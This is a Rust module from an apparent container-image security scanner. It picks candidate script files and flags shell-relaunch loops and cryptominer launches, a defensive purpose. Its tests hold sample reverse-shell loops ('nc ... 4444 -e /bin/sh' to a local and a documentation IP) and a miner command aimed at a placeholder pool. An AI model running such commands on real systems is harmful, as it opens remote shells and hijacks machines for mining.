//! Scripts read for what they do, while a layer streams: the text of small candidate files
//! (no NUL in their first bytes, not a log, not a shell history, outside package-owned
//! directories) is read into memory up to [`SCRIPT_LIMIT`], judged by `crate::cmdline`
//! (loops that relaunch a shell or a callback, miners started by their arguments) and kept
//! only as that verdict, never as text.

use crate::cmdline::{miner_args, relaunch_loops, MinerArgs, Relaunch};

/// Largest file read as a script (bytes).
pub(crate) const SCRIPT_LIMIT: u64 = 256 << 10;
/// Bytes at the start that must hold no NUL for a file to be text.
const TEXT_PROBE: usize = 1024;

/// What a script does.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ScriptFacts {
    /// Loops that relaunch a shell or a callback (outermost first).
    pub loops: Vec<Relaunch>,
    /// A miner it starts, by its arguments.
    pub miner: Option<MinerArgs>,
}

/// Directories package managers own, and the documentation trees: not scripts an
/// attacker drops.
const SYSTEM_DIRS: &[&str] = &[
    "usr/lib/",
    "usr/lib64/",
    "usr/lib32/",
    "usr/share/",
    "usr/include/",
    "usr/libexec/",
    "usr/src/",
    "lib/",
    "lib64/",
    "lib32/",
    "var/lib/dpkg/",
    "var/lib/apt/",
    "var/lib/rpm/",
    "var/cache/",
    "proc/",
    "sys/",
];

/// Names of files that record what was typed or logged, not what runs.
fn is_record(path: &[u8]) -> bool {
    let name = path.rsplit(|c| *c == b'/').next().unwrap_or(path);
    let lower = name.to_ascii_lowercase();
    let ext_log = lower.ends_with(b".log")
        || memchr::memmem::find(&lower, b".log.").is_some()
        || lower.ends_with(b"_log")
        || lower.ends_with(b".out");
    let history = lower.ends_with(b"_history") || lower == b".history" || lower == b".viminfo";
    let in_logs = path.starts_with(b"var/log/")
        || memchr::memmem::find(path, b"/logs/").is_some()
        || path.starts_with(b"logs/");
    ext_log || history || in_logs
}

/// Text data formats whose content is no command (markup, styles, maps, translations).
fn is_data(path: &[u8]) -> bool {
    let name = path.rsplit(|c| *c == b'/').next().unwrap_or(path);
    let ext = match name.iter().rposition(|c| *c == b'.') {
        Some(i) if i > 0 => &name[i + 1..],
        _ => return false,
    };
    ["html", "htm", "css", "svg", "map", "md", "rst", "po", "pot", "csv", "xml", "xsd", "dtd", "properties"]
        .iter()
        .any(|e| ext.eq_ignore_ascii_case(e.as_bytes()))
}

/// One file being read as a script.
pub(crate) struct ScriptScan {
    text: Vec<u8>,
}

impl ScriptScan {
    /// Start reading a regular file at `path` (normalized, relative) of `size` bytes whose
    /// first bytes are `head`; None when it is not a candidate.
    pub(crate) fn start(path: &[u8], size: u64, head: &[u8]) -> Option<Self> {
        if size == 0 || size > SCRIPT_LIMIT || head.is_empty() {
            return None;
        }
        if head[..head.len().min(TEXT_PROBE)].contains(&0) {
            return None;
        }
        if SYSTEM_DIRS.iter().any(|d| path.starts_with(d.as_bytes())) || is_record(path) || is_data(path) {
            return None;
        }
        Some(ScriptScan { text: Vec::with_capacity(size as usize) })
    }

    /// Feed the next chunk of the file.
    pub(crate) fn feed(&mut self, chunk: &[u8]) {
        let room = (SCRIPT_LIMIT as usize).saturating_sub(self.text.len());
        self.text.extend_from_slice(&chunk[..chunk.len().min(room)]);
    }

    /// What the script does; None when nothing of note (or not text after all).
    pub(crate) fn finish(self) -> Option<Box<ScriptFacts>> {
        if self.text.contains(&0) {
            return None;
        }
        let text = String::from_utf8_lossy(&self.text);
        let facts = ScriptFacts { loops: relaunch_loops(&text), miner: miner_args(&text) };
        (!facts.loops.is_empty() || facts.miner.is_some()).then(|| Box::new(facts))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(path: &str, content: &[u8]) -> Option<Box<ScriptFacts>> {
        let mut s = ScriptScan::start(path.as_bytes(), content.len() as u64, content)?;
        for c in content.chunks(7) {
            s.feed(c);
        }
        s.finish()
    }

    #[test]
    fn scripts_are_read_for_loops_and_miners() {
        let agent = b"#!/bin/sh\nwhile :; do nc 127.0.0.1 4444 -e /bin/sh; sleep 60; done\n";
        let f = scan("tmp/.x/agent.sh", agent).expect("loop");
        assert_eq!((f.loops.len(), f.loops[0].callback(), f.loops[0].line), (1, Some("127.0.0.1:4444"), 2));
        let m = scan("etc/rc.local", b"/var/tmp/.k -o pool.example.net:3333 -u x -p x &\n").expect("miner");
        assert_eq!(m.miner.map(|m| m.pools.len()), Some(1));
        assert_eq!(scan("etc/profile", b"export PATH=/usr/bin\n"), None);
    }

    #[test]
    fn logs_histories_binaries_and_system_files_are_not_scripts() {
        let loop_ = b"while :; do nc 203.0.113.9 4444 -e /bin/sh; done\n";
        for path in [
            "var/log/apache2/error.log",
            "usr/local/tomcat/logs/catalina.out",
            "root/.bash_history",
            "usr/share/doc/x/examples/x.sh",
            "var/www/html/index.html",
        ] {
            assert!(ScriptScan::start(path.as_bytes(), loop_.len() as u64, loop_).is_none(), "{path}");
        }
        assert!(ScriptScan::start(b"tmp/x", 10, b"\x7fELF\x00\x00").is_none());
        assert!(ScriptScan::start(b"tmp/x", SCRIPT_LIMIT + 1, loop_).is_none());
    }
}
